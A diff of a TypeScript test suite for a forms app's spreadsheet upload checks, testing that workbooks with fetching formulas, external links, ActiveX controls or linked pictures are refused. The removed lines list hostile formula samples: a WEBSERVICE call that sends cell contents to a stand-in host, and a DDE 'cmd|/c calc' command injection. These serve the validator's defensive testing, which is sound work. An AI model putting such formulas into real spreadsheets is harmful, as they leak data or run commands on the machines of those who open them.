@@ -1,6 +1,7 @@
-import { eq } from "drizzle-orm";
-import { beforeAll, describe, expect, test } from "vitest";
-import { exports, nomineeLists, providerForms } from "#app/db/schema/index.ts";
+import { eq, sql } from "drizzle-orm";
+import { beforeAll, describe, expect, test, vi } from "vitest";
+import type { Database, Transaction } from "#app/db/client.server.ts";
+import { courseRuns, exports, nomineeLists, providerForms } from "#app/db/schema/index.ts";
 import { listEntries, verifyChain } from "#app/domain/audit/queries.server.ts";
 import { Conflict, Invalid, NotFound } from "#app/domain/errors.ts";
 import { changeForm, retireForm, uploadForm } from "#app/domain/provider-forms/commands.server.ts";
@@ -14,6 +15,7 @@ import {
   placeOfForm,
 } from "#app/domain/provider-forms/queries.server.ts";
 import type { ChangeFormInput } from "#app/domain/provider-forms/schema.ts";
+import { lockIssuedLists } from "#app/domain/rosters/write-down.server.ts";
 import { encryptBytes } from "#app/lib/keys.server.ts";
 import { plainForm, readSheets, textsOf, uglyForm } from "#tests/support/forms.ts";
 import { addList, otherWard, ownWard } from "#tests/support/issued-list.ts";
@@ -50,6 +52,18 @@ const formWith = (formula: string) =>
       "</sheetData>",
       `<row r="9"><c r="A9"><f>${formula}</f><v>1</v></c></row></sheetData>`,
     ),
+  });
+
+const controlled = buildWorkbook({ parts: [{ name: "xl/activeX/activeX1.bin", data: "x" }] });
+const linked = (kind: string) =>
+  buildWorkbook({
+    sheet: sheetXml([["Họ và tên", "Số CCCD"]]),
+    parts: [
+      {
+        name: "xl/worksheets/_rels/sheet1.xml.rels",
+        data: `<Relationships><Relationship Id="rId1" Type="a/${kind}" Target="https://vi-du.vn/" TargetMode="External"/></Relationships>`,
+      },
+    ],
   });
 
 /** What the page posts when nothing is changed on it. */
@@ -187,45 +201,107 @@ describe("a provider's form", () => {
       buildWorkbook({ parts: [{ name: "xl/externalLinks/externalLink1.xml", data: "<externalLink/>" }] }),
       "forms:errors.externalLinks",
     ],
-    [
-      "a file with a data connection",
-      buildWorkbook({ parts: [{ name: "xl/connections.xml", data: "<connections/>" }] }),
-      "forms:errors.reachesOut",
-    ],
-    ...[
-      "_xlfn.WEBSERVICE(&quot;https://vi-du.vn/?&quot;&amp;A2)",
-      "&#87;ebservice(A1)",
-      "'a&quot;'!A1&amp;WEBSERVICE(&quot;x&quot;)",
-      "_xlfn.IMAGE(A1)",
-      "RTD(&quot;a.b&quot;,,A1)",
-      "cmd|'/c calc'!A0",
-      "[1]Sheet1!A1",
-      "'[1]Danh sách'!A1",
-    ].map((formula): [string, Buffer, string] => [
-      `the formula ${formula}`,
-      formWith(formula),
-      "forms:errors.reachesOut",
-    ]),
+    ["a file with a formula that fetches", formWith("WEBSERVICE(A1)"), "forms:errors.reachesOut"],
+    ["a file with controls", controlled, "forms:errors.embeddedParts"],
+    ["a file with a linked picture", linked("image"), "forms:errors.linkedParts"],
+    ["a file with a formula too long", formWith("a|".repeat(4_097)), "files:unreadable.formulaTooLong"],
   ])("%s is refused at the field", async (_, bytes, key) => {
     await expect(upload(world.people.trainer, bytes)).rejects.toMatchObject({ field: "file", key });
   });
 });
 
-test("a form keeps formulas that stay in the file", async () => {
-  for (const formula of ["COUNTA(B2:B9)", "HYPERLINK(A1,&quot;WEBSERVICE(1)|!&quot;)", "SUM(Bang1[1])"])
-    await expect(upload(world.people.trainer, formWith(formula))).resolves.toBeDefined();
+test("a form keeps formulas that stay in the file, and links to press", async () => {
+  for (const form of [formWith("COUNTA(B2:B9)"), linked("hyperlink")])
+    await expect(upload(world.people.trainer, form)).resolves.toBeDefined();
 });
 
-test("a form that was kept before it was known to reach out is not filled any more", async () => {
+test("a form that was kept before it was known to reach out says so, is not filled any more, and can be retired", async () => {
   const { db, people } = world;
-  const formId = await activeForm(people.trainer, plainForm);
-  const [form] = await db.select().from(providerForms).where(eq(providerForms.id, formId));
-  const fileCipher = encryptBytes(formWith("WEBSERVICE(A1)"), placeOfForm(form!));
-  await db.update(providerForms).set({ fileCipher }).where(eq(providerForms.id, formId));
-  await expect(fillProviderForm(db, people.trainer, runId, formId)).rejects.toThrow(
-    new Conflict("forms:errors.reachesOut"),
-  );
+  for (const [file, refusal] of [
+    [formWith("WEBSERVICE(A1)"), "forms:errors.reachesOut"],
+    [controlled, "forms:errors.embeddedParts"],
+    [linked("image"), "forms:errors.linkedParts"],
+  ] as const) {
+    const formId = await activeForm(people.trainer, plainForm);
+    const input = await posted(people.trainer, formId);
+    const [form] = await db.select().from(providerForms).where(eq(providerForms.id, formId));
+    const fileCipher = encryptBytes(file, placeOfForm(form!));
+    await db.update(providerForms).set({ fileCipher }).where(eq(providerForms.id, formId));
+    await expect(fillProviderForm(db, people.trainer, runId, formId)).rejects.toThrow(new Conflict(refusal));
+    await expect(changeForm(db, people.trainer, input)).rejects.toThrow(new Conflict(refusal));
+    const opened = await openForm(db, people.trainer, formId);
+    expect(opened.refusal).toBe(refusal);
+    await retireForm(db, people.trainer, { formId, version: opened.version });
+  }
 });
+
+describe("a form that could not be filled leaves no trace: nothing is received, nothing written down", () => {
+  /** A run whose only list is issued, and what is known of it afterwards. */
+  async function issuedRun() {
+    const { db, people } = world;
+    const run = await insertRun(db, { providerId: people.provider.id, ownerWardId: people.ward.id });
+    const { listId } = await addList(db, ownWard(people), run.id, [{ fullName: "A Tik" }]);
+    const trace = async () => ({
+      status: (await db.select().from(nomineeLists).where(eq(nomineeLists.id, listId)))[0]?.status,
+      exports: await db.$count(exports, eq(exports.subjectId, run.id)),
+    });
+    return { runId: run.id, trace };
+  }
+
+  test("when its file has no such sheet any more", async () => {
+    const { db, people } = world;
+    const { runId, trace } = await issuedRun();
+    const formId = await activeForm(people.trainer);
+    const mapping = sql`jsonb_set(${providerForms.mapping}, '{sheet}', '"Trang khác"')`;
+    await db.update(providerForms).set({ mapping }).where(eq(providerForms.id, formId));
+    await expect(fillProviderForm(db, people.trainer, runId, formId)).rejects.toThrow(
+      new Conflict("files:unreadable.damaged"),
+    );
+    expect(await trace()).toEqual({ status: "issued", exports: 0 });
+  });
+
+  test.each([
+    [
+      "the run",
+      (tx: Transaction, { runId }: Ids) =>
+        tx.update(courseRuns).set({ label: "Khóa khác" }).where(eq(courseRuns.id, runId)),
+    ],
+    [
+      "the form",
+      (tx: Transaction, { formId }: Ids) =>
+        tx.update(providerForms).set({ status: "retired" }).where(eq(providerForms.id, formId)),
+    ],
+  ])("when %s changes while it is filled", async (_, change) => {
+    const { db, people } = world;
+    const { runId, trace } = await issuedRun();
+    const formId = await activeForm(people.trainer);
+    const { filling } = await db.transaction(async (tx) => {
+      await lockIssuedLists(tx, runId);
+      const filling = fillProviderForm(db, people.trainer, runId, formId).catch((error: unknown) => error);
+      // Nothing is locked until the form is filled: whoever waits for the list has filled it.
+      await vi.waitFor(async () => expect(await waitingForLocks(db)).toBeGreaterThan(0), 20_000);
+      await change(tx, { runId, formId });
+      return { filling };
+    });
+    expect(await filling).toEqual(new Conflict("forms:errors.changedMeanwhile"));
+    expect(await trace()).toEqual({ status: "issued", exports: 0 });
+  });
+
+  test("and one that another download took meanwhile is filled all the same", async () => {
+    const { db, people } = world;
+    const { runId, trace } = await issuedRun();
+    const formId = await activeForm(people.trainer);
+    await Promise.all([1, 2].map(() => fillProviderForm(db, people.trainer, runId, formId)));
+    expect(await trace()).toEqual({ status: "received", exports: 2 });
+  });
+});
+
+type Ids = { runId: string; formId: string };
+
+async function waitingForLocks(db: Database): Promise<number> {
+  const waiting = sql`select from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'`;
+  return (await db.execute(waiting)).length;
+}
 
 test("the page of a form with the people of an earlier class shows none of their numbers", async () => {
   const rows = [
